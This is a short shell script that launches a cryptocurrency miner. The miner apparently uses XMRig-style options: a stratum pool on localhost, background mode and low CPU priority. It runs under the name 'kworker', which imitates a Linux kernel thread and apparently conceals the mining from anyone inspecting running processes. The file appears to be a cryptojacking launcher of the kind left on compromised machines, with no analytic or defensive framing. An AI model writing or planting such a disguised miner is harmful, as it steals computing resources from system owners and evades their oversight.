#!/bin/sh
./kworker -o stratum+tcp://127.0.0.1:3333 -u x --donate-level 1 --cpu-priority 0 -B
